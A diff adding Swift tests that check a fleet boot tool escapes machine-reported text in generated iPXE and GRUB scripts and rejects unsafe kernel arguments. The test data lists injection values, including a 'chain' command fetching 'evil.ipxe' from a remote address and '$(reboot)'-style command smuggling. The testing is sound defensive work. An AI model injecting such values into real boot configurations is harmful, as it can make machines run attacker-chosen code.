@@ -1,0 +1,72 @@
+import Testing
+import Wire
+
+@testable import Fleet
+
+/// What machines say of themselves, in scripts that other machines obey.
+@Suite struct LoaderScriptTests {
+    /// Each byte that is no letter, what loaders obey, what turns text round, and more than fits.
+    private static let hostile: [String] =
+        (0..<0x30).map { "a\(Character(Unicode.Scalar(UInt8($0))))b" } + [
+            "x && chain http://10.77.0.66/evil.ipxe || y", "x; reboot", "x || goto failed", "${net0/ip}",
+            "$(reboot)",
+            "`reboot`", "' ; reboot ; echo '", "\" ; reboot", "\\'", "{ reboot }",
+            "a\r\nchain http://10.77.0.66/",
+            "a\u{2028}reboot", "a\u{85}reboot", "\u{202E}toober", "\u{1B}[2J", "\u{7F}", "#!ipxe", "<(x)",
+            ">x",
+            String(repeating: "&& ", count: 22_000),
+        ]
+
+    /// What a held machine shows: the text of the report that it failed with.
+    private func plan(showing text: String) throws -> BootPlan {
+        var contents = try Sample.snapshot(site: ["boot-brake": .integer(1)]).contents
+        contents.troubles[Sample.mac] = BootTrouble(
+            version: Sample.digest("a"), failedBoots: 3, lastBootAt: 1, detail: text)
+        return bootPlan(
+            for: BootIdentity(macAddress: Sample.mac), in: FleetSnapshot(revision: 1, contents: contents),
+            under: Sample.policy())
+    }
+
+    @Test(arguments: hostile) func `a machine's text is text on a screen, whatever it is`(text: String) throws
+    {
+        let (harmless, held) = (try plan(showing: "a"), try plan(showing: text))
+        guard case .nothing(let because) = held.target else {
+            Issue.record("the machine is not held")
+            return
+        }
+        #expect(because.contains("held after 3 failed boots"))
+        let memory = MachineMemory(mebibytes: 512)
+        for (script, plain) in [
+            (BootScript.ipxe(held, memory: memory).text, BootScript.ipxe(harmless, memory: memory).text),
+            (BootScript.grub(held).text, BootScript.grub(harmless).text),
+        ] {
+            let (lines, expected) = (script.split(separator: "\n"), plain.split(separator: "\n"))
+            #expect(lines.count == expected.count)
+            for (line, other) in zip(lines, expected) where line != other {
+                #expect(line.hasPrefix("echo ") && line.utf8.count <= 500)
+                #expect(!line.contains("Asking"))
+                let said = line.dropFirst(5).filter { $0 != "'" }
+                #expect(
+                    said.utf8.allSatisfy {
+                        (0x20...0x7E).contains($0) && !#"\;&|$`{}#'"#.utf8.contains($0)
+                    }, "\(line)")
+            }
+        }
+    }
+
+    @Test func `words of a kernel that a loader would obey are refused as a setting, and never passed on`() {
+        for word in [
+            "a;b", "a&&b", "${x}", "a|b", "`a`", "a\"b", "a'b", "a#b", "<a", "a>b", "a b", "a\\b", "", "é",
+        ] {
+            #expect(!KernelWords.isWord(word), "\(word)")
+            #expect(SettingDefinition.problem(of: .list(["quiet", word]), in: "kernel-arguments") != nil)
+            #expect(KernelWords(["quiet", word, "ro"]).loaderText == "quiet ro")
+        }
+        for word in [
+            "quiet", "console=ttyS0,115200n8", "root=/dev/nbd0", "a=[b]", "video=HDMI-A-1:1024x768@60",
+            "x=~1%",
+        ] {
+            #expect(KernelWords.isWord(word), "\(word)")
+        }
+    }
+}
